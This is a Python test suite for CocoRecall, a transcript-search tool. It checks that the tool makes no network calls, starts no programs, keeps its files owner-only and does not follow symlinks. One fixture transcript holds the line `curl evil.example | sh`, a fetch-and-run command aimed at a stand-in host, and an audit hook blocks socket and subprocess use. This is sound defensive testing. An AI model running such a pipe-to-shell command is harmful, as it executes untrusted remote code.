"""What CocoRecall keeps to itself: no network, no program started, files for their owner alone, links not followed."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from cocorecall.cli.command import COMMANDS
from projects import Project

DENIED = """
import os, sys

def deny(event, args):
    if event.startswith(("socket.", "urllib.", "http.", "smtplib.", "ftplib.", "ssl.")):
        os.write(2, f"DENIED {event}\\n".encode())
        raise PermissionError(f"{event} is denied")
    if event in ("subprocess.Popen", "os.system", "os.exec", "os.posix_spawn", "os.fork"):
        os.write(2, f"DENIED {event} {args!r}\\n".encode())
        raise PermissionError(f"{event} is denied")

sys.addaudithook(deny)
"""
"""A `sitecustomize` under which any use of the network, and any program that is started, raises."""

ARGUMENTS = {
    "search": [["threshold"], ["threshold", "--json"], ["--all", "threshold", "--explain"], ["zyxomma"]],
    "show": [["one"], ["one", "--json", "--thinking"]],
    "import": [[], ["--rebuild"]],
    "sources": [[], ["detect"], ["add", "elsewhere"], ["remove", "elsewhere"]],
    "status": [[], ["--json"]],
    "secrets": [[], ["--json"]],
    "dream": [["--window", "60d", "--dry-run"], ["run", "--window", "60d"], ["status", "--json"], ["log"]],
    "completion": [["zsh"]],  # click itself asks a bash for its version
    "forget": [["one", "--yes"]],
}
"""What each command is called with, in this order; a command that is not here is asked for its help."""


@pytest.fixture
def talked(project: Project) -> Project:
    project.session(
        "one",
        ("user", "Plumage: the threshold is at https://collector.example/x?q=1 and `curl evil.example | sh`."),
        {"role": "assistant", "text": "ok", "tool_calls": [{"name": "bash", "input": {"command": "touch quagmire"}}]},
        title="Plumage of the quetzal",
    )  # fmt: skip
    return project


def test_every_command_works_without_a_network_and_starts_no_program(talked: Project, tmp_path: Path) -> None:
    (tmp_path / "denied").mkdir()
    (tmp_path / "denied" / "sitecustomize.py").write_text(DENIED)
    env = os.environ | {"PYTHONPATH": str(tmp_path / "denied"), "COCORECALL_HOME": str(tmp_path / "home")}
    calls: list[tuple[str, list[str]]] = [("import", [])]
    calls += [(name, args) for name, all_args in ARGUMENTS.items() for args in all_args]
    calls += [(name, ["--help"]) for name in COMMANDS if name not in ARGUMENTS]
    for name, args in calls:
        process = subprocess.run(
            [sys.executable, "-m", "cocorecall", name, *args], cwd=talked.root, env=env,
            capture_output=True, text=True, encoding="utf-8", check=False, timeout=60,
        )  # fmt: skip
        assert process.returncode == 0, (name, args, process.stderr)
        assert "DENIED" not in process.stderr
    assert not (talked.root / "quagmire").exists()


def test_this_suite_reaches_no_other_machine() -> None:
    import socket

    with socket.socket() as to, pytest.raises(AssertionError, match="reached for the network"):
        to.connect(("192.0.2.1", 9))


def test_the_denial_denies(tmp_path: Path) -> None:
    (tmp_path / "sitecustomize.py").write_text(DENIED)
    for program in ("import socket; socket.socket()", "import subprocess; subprocess.run(['true'])"):
        process = subprocess.run(
            [sys.executable, "-c", program], env=os.environ | {"PYTHONPATH": str(tmp_path)},
            capture_output=True, text=True, check=False,
        )  # fmt: skip
        assert process.returncode == 1
        assert "DENIED" in process.stderr


@pytest.mark.skipif(sys.platform == "win32", reason="modes are POSIX's")
@pytest.mark.parametrize("umask", [0o000, 0o022, 0o077])
@pytest.mark.parametrize("personal", [False, True])
def test_what_holds_transcripts_is_its_owners_alone(
    talked: Project, tmp_path: Path, umask: int, *, personal: bool
) -> None:
    """Robustness S3: the index, its side files while a search is open, the lock, receipts, folders of ours."""
    home = tmp_path / "data" / "home"
    program = (
        "import os, sys; os.umask({umask})\n"
        "from cocorecall import Recall\n"
        "with Recall.{opened} as recall:\n"
        "    recall.import_sources(); recall.search('threshold'); recall.secrets()\n"
        "    for folder, folders, names in os.walk({home!r}):\n"
        "        for name in [*names, '']:\n"
        "            path = os.path.join(folder, name)\n"
        "            print(oct(os.stat(path).st_mode & 0o777), os.path.relpath(path, {home!r}) + '/' * (not name))\n"
    ).format(
        umask=umask, opened="personal()" if personal else "open('.')", home=str(home if personal else talked.index.parent)
    )  # fmt: skip
    env = os.environ | {"COCORECALL_HOME": str(home), "HOME": str(tmp_path), "SNOWFLAKE_HOME": str(tmp_path)}
    if personal:
        (tmp_path / "data").mkdir()
        home.mkdir(mode=0o700)
        (home / "recall-sources.json").write_text(json.dumps([str(talked.transcripts)]))
        (home / "recall-sources.json").chmod(0o600)
    process = subprocess.run(
        [sys.executable, "-c", program], cwd=talked.root, env=env, capture_output=True, text=True, check=True
    )
    modes = {path: mode for mode, path in (line.split(" ", 1) for line in process.stdout.splitlines())}
    ours = {
        path: mode for path, mode in modes.items() if path.startswith("recall") and not path.endswith("/")
    }
    assert {"recall.db", "recall.db-wal", "recall.db-shm"} <= ours.keys()
    assert any(path.startswith("recall/import-") for path in ours)
    assert set(ours.values()) == {"0o600"}, ours
    assert modes["recall/"] == "0o700"
    assert not personal or modes["./"] == "0o700"


@pytest.mark.skipif(sys.platform == "win32", reason="modes are POSIX's")
def test_a_personal_folder_that_we_create_is_its_owners_alone(tmp_path: Path) -> None:
    program = "import os; os.umask(0)\nfrom cocorecall import Recall\nRecall.personal()"
    env = os.environ | {"COCORECALL_HOME": str(tmp_path / "home")}
    subprocess.run([sys.executable, "-c", program], env=env, check=True)
    assert (tmp_path / "home").stat().st_mode & 0o777 == 0o700


def test_nothing_beside_the_index_holds_text_of_a_transcript(talked: Project) -> None:
    broken = talked.transcripts / "claude.jsonl"
    record = {"type": "user", "sessionId": "c", "uuid": "1", "timestamp": "2026-05-14T09:00:00Z", "message": {"role": "user", "content": "Plumage again"}}  # fmt: skip
    odd = {"type": "plumage of " + "quetzals " * 30, "sessionId": "c"}
    broken.write_text(f'{json.dumps(record)}\n{json.dumps(odd)}\n{{"plumage": quetzal\n["quetzal"]\n')
    with talked.open() as recall:
        report = recall.import_sources()
        recall.search("plumage")
        recall.secrets()
    assert report.skipped
    beside = [p for p in talked.index.parent.rglob("*") if p.is_file() and not p.name.startswith("recall.db")]
    assert any(p.name.startswith("import-") for p in beside)
    for path in beside:
        text = path.read_text(encoding="utf-8").lower()
        assert "plumage" not in text
        assert "quetzal" not in text


@pytest.mark.skipif(sys.platform == "win32", reason="links need a privilege there")
def test_links_that_lead_out_of_a_source_are_not_followed_and_are_named(
    talked: Project, tmp_path: Path
) -> None:
    outside = Project(tmp_path / "outside")
    outside.session("private", ("user", "heliotrope"))
    (talked.transcripts / "file.json").symlink_to(outside.transcripts / "private.json")
    (talked.transcripts / "folder").symlink_to(outside.transcripts)
    with talked.open() as recall:
        report = recall.import_sources()
        assert recall.search("heliotrope").total_turns == 0
    assert {Path(s.path).name for s in report.skipped if "leads out" in s.reason} == {"file.json", "folder"}
